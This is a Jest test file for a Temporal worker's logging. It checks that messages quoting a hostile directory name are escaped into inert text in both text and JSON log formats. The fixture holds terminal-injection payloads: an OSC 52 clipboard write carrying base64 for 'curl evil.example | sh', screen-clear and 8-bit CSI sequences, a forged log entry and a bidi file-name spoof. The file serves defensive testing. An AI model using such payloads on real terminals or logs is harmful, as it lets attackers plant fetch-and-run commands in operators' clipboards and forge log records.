/**
 * Every line the worker logs is inert (worker/jsonLog.ts, worker/telemetry.ts, shared/text/inertText.ts): a message
 * or a metadata value quoting what a hostile member wrote (a directory name carrying OSC 52 and a screen clear) can
 * neither write the operator's clipboard, nor clear or reorder the screen, nor forge a second log entry, in the text
 * format and in the JSON one. The SDK's own "Activity failed" warning is checked on the SDK's own Activity code
 * (MockActivityEnvironment runs the Worker's Activity class), logged through the logger installTelemetry gives
 * Runtime.install.
 */
import { MockActivityEnvironment } from '@temporalio/testing';
import { Runtime, type LogEntry, type Logger } from '@temporalio/worker';
import { logText, terminalJson } from '../../shared/text/inertText';
import { formatJsonLogLine, formatTextLogLine } from '../../worker/jsonLog';
import { installTelemetry } from '../../worker/telemetry';

const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const CLEAR = '\u001b[2J';
const C1_CSI = '\u009b2J';
/** A directory name a hostile member created: clipboard write, screen clear, 8-bit CSI, and a forged next entry. */
const HOSTILE_DIR = `src${OSC52}${CLEAR}${C1_CSI}\r\n2026-01-01T00:00:00.000Z [ERROR] forged\u2028\u202etxt.exe\u007f`;

/** Anything a terminal or a log viewer acts on: every C0 (tab and line feed too), DEL, C1, U+2028/9 and the bidi controls. */
// eslint-disable-next-line no-control-regex
const ACTIVE = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2028\u2029\u2066-\u2069]/;

const at = BigInt(Date.UTC(2026, 0, 2, 3, 4, 5, 678)) * 1_000_000n;

function hostileEntry(): LogEntry {
  const error = new Error(`ENOENT: no such file or directory, scandir '${HOSTILE_DIR}'`);
  return {
    level: 'WARN',
    message: `Activity failed in ${HOSTILE_DIR}`,
    timestampNanos: at,
    meta: { error, workflowId: HOSTILE_DIR, nested: { path: [HOSTILE_DIR] }, [HOSTILE_DIR]: 1, symbol: Symbol(CLEAR), durationMs: 3 },
  };
}

/** The visible escapes an operator reads where the hostile text was. */
function expectVisibleEscapes(line: string): void {
  expect(line).toContain('\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007');
  expect(line).toContain('\\u001b[2J');
  expect(line).toContain('\\u009b2J');
  expect(line).toContain('\\r\\n2026-01-01T00:00:00.000Z [ERROR] forged');
  expect(line).toContain('\\u2028\\u202etxt.exe\\u007f');
}

describe('the log line formats', () => {
  test('text: the message, meta strings and keys, an Error message and stack and a symbol become visible escapes on one line', () => {
    const line = formatTextLogLine(hostileEntry());
    expect(line).not.toMatch(ACTIVE);
    expect(line.startsWith('2026-01-02T03:04:05.678Z [WARN] Activity failed in src\\u001b]52;c;')).toBe(true);
    expectVisibleEscapes(line);
    // inside the error's message and its stack (inspect prints a stack raw, line breaks and all)
    expect(line).toContain("error: Error: ENOENT: no such file or directory, scandir 'src\\u001b]52;c;");
    expect(line).toMatch(/\\n {4}at /);
    expect(line).toContain('durationMs: 3');
  });

  test('text: the SDK DefaultLogger layout is kept, and an entry without meta has nothing after the message', () => {
    expect(formatTextLogLine({ level: 'INFO', message: 'Worker state changed', timestampNanos: at, meta: { state: 'RUNNING' } })).toBe(
      "2026-01-02T03:04:05.678Z [INFO] Worker state changed { state: 'RUNNING' }",
    );
    expect(formatTextLogLine({ level: 'ERROR', message: 'tab\there', timestampNanos: at })).toBe('2026-01-02T03:04:05.678Z [ERROR] tab\\there');
  });

  test('json: C0 as JSON escapes, C1, DEL, bidi and U+2028/9 as \\uXXXX, and the line parses back to the same values', () => {
    const entry = hostileEntry();
    const line = formatJsonLogLine(entry);
    expect(line).not.toMatch(ACTIVE);
    expect(line).toContain('\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007\\u001b[2J\\u009b2J\\r\\n');
    expect(line).toContain('\\u2028\\u202etxt.exe\\u007f');
    const parsed = JSON.parse(line) as Record<string, unknown>;
    expect(parsed).toMatchObject({ level: 'WARN', message: entry.message, workflowId: HOSTILE_DIR, nested: { path: [HOSTILE_DIR] }, [HOSTILE_DIR]: 1 });
    expect(parsed.error).toMatchObject({ name: 'Error', message: (entry.meta!.error as Error).message, stack: (entry.meta!.error as Error).stack });
  });

  test('logText and terminalJson: every control a visible escape, nothing else changed', () => {
    expect(logText(`a${OSC52}b\tc\r\nd\u009b\u2029`)).toBe('a\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007b\\tc\\r\\nd\\u009b\\u2029');
    expect(logText('C:\\path ünïcode 漢字 🙂')).toBe('C:\\path ünïcode 漢字 🙂');
    expect(terminalJson({ s: '\u2028\u2029' })).toBe('{"s":"\\u2028\\u2029"}');
  });
});

describe("the worker's installed logger", () => {
  const formats = ['text', 'json'] as const;

  /**
   * installTelemetry as worker/main.ts calls it, with Runtime.install recorded instead of run (the Runtime is
   * process-wide) and the process's streams captured; console and the crash handler are restored afterwards.
   */
  async function withInstalledLogger(format: 'text' | 'json', use: (logger: Logger) => void | Promise<void>): Promise<string[]> {
    const written: string[] = [];
    const capture = (chunk: unknown): boolean => (written.push(String(chunk)), true);
    const install = jest.spyOn(Runtime, 'install').mockImplementation(() => ({}) as Runtime);
    const stdout = jest.spyOn(process.stdout, 'write').mockImplementation(capture);
    const stderr = jest.spyOn(process.stderr, 'write').mockImplementation(capture);
    const consoleBefore = { log: console.log, info: console.info, debug: console.debug, warn: console.warn, error: console.error };
    const crashHandlersBefore = process.listeners('uncaughtException');
    try {
      installTelemetry({ AGENT_TEAMS_LOG_FORMAT: format, AGENT_TEAMS_LOG_LEVEL: 'INFO' });
      const logger = install.mock.calls[0]![0].logger!;
      await use(logger);
    } finally {
      Object.assign(console, consoleBefore);
      for (const handler of process.listeners('uncaughtException')) if (!crashHandlersBefore.includes(handler)) process.off('uncaughtException', handler);
      install.mockRestore();
      stdout.mockRestore();
      stderr.mockRestore();
    }
    return written.join('').split('\n').slice(0, -1);
  }

  test.each(formats)('%s: the SDK\'s "Activity failed" warning, with the error quoting a hostile directory name, is one inert line', async (format) => {
    const lines = await withInstalledLogger(format, async (logger) => {
      const env = new MockActivityEnvironment({ activityType: 'listFiles' }, { logger });
      await expect(env.run(() => Promise.reject(new Error(`ENOENT: no such file or directory, scandir '${HOSTILE_DIR}'`)))).rejects.toThrow('ENOENT');
    });
    const failed = lines.filter((line) => line.includes('Activity failed'));
    expect(failed).toHaveLength(1);
    expect(lines.join('\n')).not.toMatch(ACTIVE);
    const line = failed[0]!;
    expect(line).toContain('\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007');
    expect(line).toContain('\\u001b[2J');
    expect(line).toContain('\\u009b2J');
    if (format === 'json') {
      const parsed = JSON.parse(line) as { level: string; activityType: string; error: { message: string } };
      expect(parsed).toMatchObject({ level: 'WARN', activityType: 'listFiles', sdkComponent: 'worker' });
      expect(parsed.error.message).toBe(`ENOENT: no such file or directory, scandir '${HOSTILE_DIR}'`);
    } else {
      expect(line).toMatch(/^\d{4}-\d\d-\d\dT[\d:.]+Z \[WARN\] Activity failed \{.*activityType: 'listFiles'.*error: Error: ENOENT/);
      expect(line).toContain('\\r\\n2026-01-01T00:00:00.000Z [ERROR] forged');
    }
  });

  test.each(formats)('%s: console lines go through the same sink, and the level filter still applies', async (format) => {
    const lines = await withInstalledLogger(format, () => {
      console.warn(`bash sandbox unavailable: ${HOSTILE_DIR}`);
      console.debug(`below the level: ${HOSTILE_DIR}`);
    });
    expect(lines).toHaveLength(1);
    expect(lines[0]).not.toMatch(ACTIVE);
    expect(lines[0]).toContain('bash sandbox unavailable: src\\u001b]52;c;');
  });
});
